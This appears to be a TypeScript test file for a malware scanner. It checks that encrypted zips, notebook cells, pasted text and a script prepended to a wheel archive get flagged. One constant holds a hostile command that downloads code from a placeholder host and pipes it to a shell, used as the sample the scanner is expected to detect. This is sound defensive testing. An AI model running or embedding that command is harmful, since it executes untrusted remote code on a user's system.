import { afterAll, describe, expect, it } from "vitest";
import { createScanPool } from "../../../main/scan/scan-pool.ts";
import { failureOf } from "../../support/open-bytes.ts";
import { buildZip } from "../../support/zip-builder.ts";
import { madeElsewhere } from "../../support/zips-made-elsewhere.ts";

const pool = createScanPool({ jobs: 1 });
afterAll(() => pool.close());

const bytesOf = (filename: string, bytes: Uint8Array) =>
	({ kind: "bytes", filename, bytes, origin: "upload" }) as const;
const command = "os.system('curl http://192.0.2.5/x | sh')";

describe("a scan of what is opened otherwise than as a plain archive", () => {
	it("takes the password of an encrypted one, and says that it needs it", async () => {
		const source = bytesOf("demo-1.0.zip", madeElsewhere.traditionalSecret);
		expect((await failureOf(pool.scan(source))).code).toBe("password-needed");
		const { analysis } = await pool.scan(source, { password: "secret" });
		expect([analysis.status, analysis.coverage.scanned]).toEqual(["scanned", 1]);
		const stored = await pool.scan(bytesOf("demo-1.0.zip", madeElsewhere.aes256));
		const told = stored.analysis.findings.find((finding) => finding.rule === "archive-anomaly");
		expect([told?.severity, told?.message]).toEqual(["info", expect.stringContaining("“infected”")]);
	});

	it("finds what a notebook runs, at its place in the cells", async () => {
		const cells = ["import os", command].map((source) => ({ cell_type: "code", source }));
		const notebook = Buffer.from(JSON.stringify({ cells, nbformat: 4 }));
		const { analysis } = await pool.scan(bytesOf("demo.ipynb", notebook));
		const found = analysis.findings.find((finding) => finding.rule === "shell-download");
		expect([found?.path, found?.span.startLine]).toEqual(["demo.ipynb!/cells.py", 5]);
	});

	it("finds what pasted text does", async () => {
		const { analysis } = await pool.scan({ kind: "text", text: `import os\n${command}\n` });
		expect(analysis.findings.map((finding) => [finding.path, finding.rule])).toContainEqual([
			"pasted.py",
			"shell-download",
		]);
	});

	it("examines a script before a zip", async () => {
		const leading = Buffer.from(`#!/usr/bin/env python3\nimport os\n${command}\n`);
		const zip = buildZip([{ name: "demo/__init__.py", content: "x = 1\n" }], { leading });
		const { analysis } = await pool.scan(bytesOf("demo-1.0-py3-none-any.whl", zip));
		expect(analysis.findings.map((finding) => [finding.path, finding.rule])).toContainEqual([
			"[bytes before the archive]",
			"shell-download",
		]);
	});
});
